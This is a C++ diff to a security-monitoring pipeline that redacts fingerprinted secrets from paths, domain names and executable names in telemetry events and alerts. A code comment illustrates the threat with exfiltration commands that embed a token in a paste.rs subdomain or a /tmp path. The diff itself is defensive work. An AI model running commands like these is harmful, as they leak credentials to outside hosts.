@@ -10,6 +10,8 @@
 #include <chrono>
 #include <cstring>
 #include <fstream>
+#include <type_traits>
+#include <variant>
 
 #include <fmt/format.h>
 
@@ -50,6 +52,12 @@ struct Pipeline::State {
     util::LruMap<std::uint64_t, std::pair<std::uint64_t, bool>> secret_args;
     bool holds_secret(const std::vector<std::string>& args);
     bool redact_content(ProcessRef& process);
+    // Redaction by content of the names a process chose (paths, host and domain names, its
+    // executable's path): whichever holds a fingerprinted token goes (a path's segment, a name's
+    // label: curl https://$TOKEN.paste.rs/, cp key /tmp/$TOKEN).
+    bool names_hold_secret(const Event& event) const;
+    void redact_names(Event& event) const;
+    void redact_names(Alert& alert) const;
     void save_jobs();
 };
 
@@ -106,6 +114,88 @@ bool Pipeline::State::redact_content(ProcessRef& process)
     if (!holds_secret(process.args)) return false;
     const auto& index = engine->fingerprints();
     return redact::redact_secret_args(process.args, [&](std::string_view a) { return index.contains_secret(a); });
+}
+
+namespace {
+
+enum class NameKind : std::uint8_t { path, domain };
+
+// Each name an event carries that a process chose, with its kind: `f(name, kind)`.
+template <typename E, typename F>
+void for_each_name(E& event, const F& f)
+{
+    std::visit(
+        [&](auto& e) {
+            using T = std::decay_t<decltype(e)>;
+            f(e.process.executable, NameKind::path);
+            if constexpr (std::is_same_v<T, FileOpenEvent>) {
+                f(e.path, NameKind::path);
+                f(e.requested_path, NameKind::path);
+            } else if constexpr (std::is_same_v<T, FileSummaryEvent>) {
+                f(e.path, NameKind::path);
+            } else if constexpr (std::is_same_v<T, ConnectEvent> || std::is_same_v<T, FlowSummaryEvent>) {
+                f(e.destination_domain, NameKind::domain);
+            } else if constexpr (std::is_same_v<T, TlsClientHelloEvent>) {
+                f(e.server_name, NameKind::domain);
+            } else if constexpr (std::is_same_v<T, DnsAnswerEvent>) {
+                f(e.question, NameKind::domain);
+                for (auto& cname : e.cnames) f(cname, NameKind::domain);
+            } else if constexpr (std::is_same_v<T, HttpRequestEvent>) {
+                f(e.host, NameKind::domain);
+                f(e.path, NameKind::path);
+                f(e.connect_target, NameKind::domain);
+            }
+        },
+        event);
+}
+
+// Redacts one name in place; returns whether it held a secret.
+bool redact_name(std::string& name, NameKind kind, const detect::FingerprintIndex& index)
+{
+    const auto contains = [&](std::string_view s) { return index.contains_secret(s); };
+    return kind == NameKind::path ? redact::redact_secret_path(name, contains)
+                                  : redact::redact_secret_domain(name, contains);
+}
+
+}  // namespace
+
+bool Pipeline::State::names_hold_secret(const Event& event) const
+{
+    const auto& index = engine->fingerprints();
+    if (index.files() == 0) return false;
+    bool found = false;
+    for_each_name(event, [&](const std::string& name, NameKind) {
+        found = found || (name.size() >= 16 && index.contains_secret(name));
+    });
+    return found;
+}
+
+void Pipeline::State::redact_names(Event& event) const
+{
+    const auto& index = engine->fingerprints();
+    for_each_name(event, [&](std::string& name, NameKind kind) { redact_name(name, kind, index); });
+}
+
+// An alert's names, and the reason that repeats them (then whole, should a secret remain).
+void Pipeline::State::redact_names(Alert& alert) const
+{
+    const auto& index = engine->fingerprints();
+    if (index.files() == 0) return;
+    std::vector<std::pair<std::string, std::string>> renamed;  // what the reason may repeat
+    auto redact = [&](std::string& name, NameKind kind) {
+        std::string before = name;
+        if (redact_name(name, kind, index)) renamed.emplace_back(std::move(before), name);
+    };
+    redact(alert.destination_domain, NameKind::domain);
+    redact(alert.process.executable, NameKind::path);
+    for (auto& member : alert.chain) redact(member.executable, NameKind::path);
+    for (auto& file : alert.files) redact(file.path, NameKind::path);
+    if (alert.reason.size() < 16 || !index.contains_secret(alert.reason)) return;
+    for (const auto& [before, after] : renamed)
+        for (auto at = alert.reason.find(before); at != std::string::npos;
+             at = alert.reason.find(before, at + after.size()))
+            alert.reason.replace(at, before.size(), after);
+    if (index.contains_secret(alert.reason)) alert.reason = std::string(redact::redacted_marker);
 }
 
 // Written whole to a temporary file and renamed, so a crash leaves the old or the new memory.
@@ -216,7 +306,8 @@ void Pipeline::drain_blind_spots(bool all)
 {
     // Blinding is as loud as an alert: an alert-kind monitor-blind-spot record, whatever
     // --min-score says (it is not scored).
-    for (const auto& spot : state_->engine->take_blind_spots(all)) {
+    for (auto& spot : state_->engine->take_blind_spots(all)) {
+        for (auto& process : spot.processes) state_->redact_content(process);  // their command lines, as an alert's
         state_->write(state_->encoder.line(spot));
         ++state_->blind_spots;
     }
@@ -228,9 +319,11 @@ void Pipeline::on_event(const Event& event)
     if (std::find(state_->selected.begin(), state_->selected.end(), action) != state_->selected.end()) {
         if (state_->shedding) {
             ++state_->telemetry_shed;
-        } else if (std::visit([&](const auto& e) { return state_->holds_secret(e.process.args); }, event)) {
+        } else if (std::visit([&](const auto& e) { return state_->holds_secret(e.process.args); }, event) ||
+                   state_->names_hold_secret(event)) {
             Event copy = event;
             std::visit([&](auto& e) { state_->redact_content(e.process); }, copy);
+            state_->redact_names(copy);
             state_->write(state_->encoder.line(copy));
             ++state_->telemetry;
         } else {
@@ -245,6 +338,7 @@ void Pipeline::on_event(const Event& event)
         }
         state_->redact_content(alert.process);
         for (auto& member : alert.chain) state_->redact_content(member);
+        state_->redact_names(alert);
         const auto& index = state_->engine->fingerprints();
         if (index.files() > 0)
             for (auto& signal : alert.signals)
